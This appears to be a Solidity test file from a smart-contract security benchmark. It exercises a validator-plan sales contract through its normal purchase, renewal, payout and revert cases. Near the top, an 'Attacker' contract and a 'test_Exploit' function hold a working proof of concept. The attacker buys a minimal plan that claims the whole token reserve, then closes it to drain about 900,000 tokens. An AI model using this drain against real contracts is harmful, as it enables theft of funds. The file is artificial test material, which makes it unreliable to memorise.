// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

// assay-canary-6602c9f9-6fda-48b7-bc99-37aea0dce88b

import "./ValidatorService.sol";
import "./context/ValidatorNetwork.sol";
import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";

interface Vm {
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function warp(uint256 timestamp) external;
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20("Network Token", "NET") {
    address private immutable _issuer = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == _issuer, "issuer only");
        _mint(to, amount);
    }
}

/// Buys the smallest plan there is.
contract Attacker {
    function run(ValidatorService service) external {
        uint256 id = service.buy{value: service.priceOf(1, 1)}(0, 1, 1, service.reserve(), address(0));
        ValidatorNetwork(address(service.network())).close(id);
    }

    receive() external payable {}
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_773_900_000;
    address payable private constant ANN = address(0xA1);
    address payable private constant BOB = address(0xB0);
    address payable private constant PARTNER = address(0x9A);

    Coin public coin;
    ValidatorNetwork public network;
    ValidatorService public service;
    Attacker public guest;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        network = new ValidatorNetwork(coin);
        service = new ValidatorService(network, 0.2 ether, 0.01 ether);
        coin.mint(address(this), 1_000_000e18);
        coin.approve(address(service), 1_000_000e18);
        service.addReserve(1_000_000e18);
        service.addGroup(500);
        guest = new Attacker();
        vm.deal(address(guest), 0.5 ether);
        vm.deal(ANN, 1_000 ether);
        vm.deal(BOB, 100 ether);
    }

    function test_Regular() public {
        require(service.priceOf(1, 1) == 0.5 ether && service.tokensFor(4, 2) == 240e18, "price");
        service.setPartner(PARTNER, 1_000);
        vm.prank(ANN);
        uint256 id = service.buy{value: 4 ether}(0, 4, 2, 240e18, PARTNER);
        require(network.ownerOf(id) == ANN && network.isRunning(id) && service.isPaid(id), "running");
        require(service.reserve() == 999_760e18 && service.placesIn(0) == 496, "tokens of the plan");
        require(service.owed(PARTNER) == 0.16 ether && service.totalOwed() == 0.16 ether, "the partner's share");

        // A present for Bob, who has tokens of his own.
        vm.prank(ANN);
        uint256 gift = service.buyFor{value: 0.5 ether}(BOB, 0, 1, 1, 7e18);
        coin.mint(BOB, 50e18);
        vm.startPrank(BOB);
        coin.approve(address(network), 50e18);
        network.deposit(gift, 50e18);
        vm.stopPrank();

        vm.warp(START + 50 days);
        require(network.isRunning(gift) && network.isRunning(id) && !service.isPaid(gift), "both run");
        vm.prank(BOB);
        service.renew{value: 2 ether}(id, 1, 120e18);
        (, uint64 paidUntil, , , uint16 renewals) = service.plans(id);
        require(paidUntil == START + 90 days && renewals == 1, "renewed");
        service.retire(gift);
        require(service.placesIn(0) == 496, "places are free");
        vm.warp(START + 60 days);
        require(!network.isRunning(gift), "used up");
        vm.prank(BOB);
        require(network.close(gift) == 0, "nothing left");
        vm.prank(ANN);
        require(network.close(id) == 120e18 && coin.balanceOf(ANN) == 120e18, "a month is left");
        service.retire(id);
        require(service.placesIn(0) == 500 && !service.isPaid(id), "retired");

        // A year with a discount.
        service.setPrices(0.3 ether, 0.02 ether, 1_000);
        require(service.priceOf(2, 12) == 6.48 ether + 14.4 ether && service.hostingFor(2, 11) == 6.6 ether, "discount");
        vm.prank(ANN);
        service.buy{value: 20.88 ether}(0, 2, 12, 720e18, address(0));
        owners();
    }

    function owners() private {
        service.withdrawEther(BOB);
        require(BOB.balance == 98 ether + 27.22 ether && address(service).balance == 0.16 ether, "ether");
        vm.prank(PARTNER);
        require(service.withdrawShare() == 0.16 ether && PARTNER.balance == 0.16 ether, "share");
        require(service.totalOwed() == 0, "owed");
        service.withdrawReserve(BOB, 1e18);
        require(coin.balanceOf(BOB) == 1e18, "reserve");
        require(service.addGroup(10) == 1 && service.groupCount() == 2, "another group");
        service.setGroup(1, 20, false);
        require(service.placesIn(1) == 0, "closed");
        service.pause();
        service.unpause();
        service.transferOwnership(BOB);
        require(service.owner() == BOB, "owner");
        vm.prank(BOB);
        service.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        bytes memory why = "Ownable: caller is not the owner";
        refuses(ANN, why);
        service.setPrices(1, 1, 1);
        refuses(ANN, why);
        service.setPartner(ANN, 1);
        refuses(ANN, why);
        service.withdrawEther(ANN);
        refuses(ANN, why);
        service.withdrawReserve(ANN, 1);
        refuses(ANN, why);
        service.addGroup(1);
        refuses(ANN, why);
        service.setGroup(0, 1, true);
        refuses(ANN, why);
        service.transferOwnership(ANN);
        refuses(ANN, why);
        service.renounceOwnership();
        refuses(ANN, why);
        service.pause();
        service.pause();
        refuses(ANN, why);
        service.unpause();
    }

    function test_RefusesPlans() public {
        refuses(ANN, "validators out of bounds");
        service.buy(0, 0, 1, 0, address(0));
        uint256 price = service.priceOf(201, 1);
        refuses(ANN, "validators out of bounds");
        service.buy{value: price}(0, 201, 1, 1_407e18, address(0));
        refuses(ANN, "term out of bounds");
        service.buy(0, 1, 0, 0, address(0));
        price = service.priceOf(1, 25);
        refuses(ANN, "term out of bounds");
        service.buy{value: price}(0, 1, 25, 7e18, address(0));
        refuses(ANN, "not the price");
        service.buy{value: 0.5 ether - 1}(0, 1, 1, 7e18, address(0));
        refuses(ANN, "not the price");
        service.buy{value: 0.5 ether + 1}(0, 1, 1, 7e18, address(0));
        refuses(ANN, "too many tokens");
        service.buy{value: 0.5 ether}(0, 1, 1, 1_000_001e18, address(0));
        refuses(ANN, "balance for a week at least");
        service.buy{value: 0.5 ether}(0, 1, 1, 7e18 - 1, address(0));
        refuses(ANN, "no cluster");
        service.buyFor{value: 0.5 ether}(address(0), 0, 1, 1, 7e18);
    }

    function test_RefusesGroups() public {
        refuses(ANN, "no such group");
        service.buy{value: 0.5 ether}(1, 1, 1, 7e18, address(0));
        vm.expectRevert("no such group");
        service.placesIn(1);
        service.addGroup(3);
        refuses(ANN, "no places left");
        service.buy{value: 2 ether}(1, 4, 1, 28e18, address(0));
        vm.prank(ANN);
        service.buy{value: 0.5 ether}(1, 1, 1, 7e18, address(0));
        vm.expectRevert("capacity in use");
        service.setGroup(1, 0, true);
        service.setGroup(1, 3, false);
        refuses(ANN, "group closed");
        service.buy{value: 0.5 ether}(1, 1, 1, 7e18, address(0));
    }

    function test_RefusesRenewals() public {
        // A cluster that was made elsewhere.
        coin.mint(address(this), 7e18);
        coin.approve(address(network), 7e18);
        uint256 other = network.register(BOB, 1, 7e18);
        refuses(ANN, "no such plan");
        service.renew{value: 0.5 ether}(other, 1, 7e18);
        refuses(ANN, "no such plan");
        service.renew(99, 1, 0);
        vm.prank(ANN);
        uint256 id = service.buy{value: 0.5 ether}(0, 1, 1, 7e18, address(0));
        refuses(ANN, "not the price");
        service.renew{value: 0.4 ether}(id, 1, 7e18);
        refuses(ANN, "too many tokens");
        service.renew{value: 0.5 ether}(id, 1, 1_000_001e18);
        vm.prank(ANN);
        network.close(id);
        refuses(ANN, "no such plan");
        service.renew{value: 0.5 ether}(id, 1, 7e18);
    }

    function test_RefusesToRetire() public {
        vm.expectRevert("no such plan");
        service.retire(99);
        vm.prank(ANN);
        uint256 id = service.buy{value: 0.5 ether}(0, 1, 1, 30e18, address(0));
        vm.warp(START + 45 days);
        vm.expectRevert("still running");
        service.retire(id);
        vm.warp(START + 45 days + 1);
        service.retire(id);
        vm.expectRevert("no such plan");
        service.retire(id);
    }

    function test_RefusesWhenPaused() public {
        vm.prank(ANN);
        uint256 id = service.buy{value: 0.5 ether}(0, 1, 1, 7e18, address(0));
        service.pause();
        refuses(ANN, "Pausable: paused");
        service.buy{value: 0.5 ether}(0, 1, 1, 7e18, address(0));
        refuses(ANN, "Pausable: paused");
        service.buyFor{value: 0.5 ether}(BOB, 0, 1, 1, 7e18);
        refuses(ANN, "Pausable: paused");
        service.renew{value: 0.5 ether}(id, 1, 7e18);
    }

    function test_RefusesSettings() public {
        vm.expectRevert("price out of bounds");
        service.setPrices(1_000 ether + 1, 1, 0);
        vm.expectRevert("price out of bounds");
        service.setPrices(1, 1_000 ether + 1, 0);
        vm.expectRevert("discount too large");
        service.setPrices(1, 1, 3_001);
        vm.expectRevert("share too large");
        service.setPartner(PARTNER, 2_001);
    }

    function test_RefusesAtTheNetwork() public {
        vm.expectRevert("no cluster");
        network.register(ANN, 0, 0);
        vm.expectRevert("unknown cluster");
        network.deposit(99, 0);
        vm.prank(ANN);
        uint256 id = service.buy{value: 0.5 ether}(0, 1, 1, 7e18, address(0));
        refuses(BOB, "not the owner");
        network.close(id);
    }

    function exploit() public {
        guest.run(service);
    }

    function test_Exploit() public {
        uint256 before = coin.balanceOf(address(guest));
        exploit();
        require(coin.balanceOf(address(guest)) >= before + 900_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(service);
    }

    function attacker() public view returns (address) {
        return address(guest);
    }

    receive() external payable {}
}
